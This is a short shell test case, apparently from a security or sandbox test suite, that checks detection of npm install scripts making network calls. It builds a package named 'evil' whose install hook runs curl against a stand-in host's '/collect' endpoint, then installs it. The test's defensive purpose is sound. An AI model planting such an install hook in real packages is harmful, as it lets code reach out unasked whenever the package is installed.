# SPDX-License-Identifier: Apache-2.0
# A package's install script reaches somewhere by itself.
# finds: install-script-egress
# needs: npm curl
mkdir package
echo '{"name":"evil","version":"1.0.0","scripts":{"install":"curl -s http://203.0.113.10/collect || true"}}' >package/package.json
echo '{"name":"work","version":"1.0.0"}' >package.json
call c1 'npm install --no-audit --no-fund --offline ./package >/dev/null 2>&1 || npm install --no-audit --no-fund ./package >/dev/null'
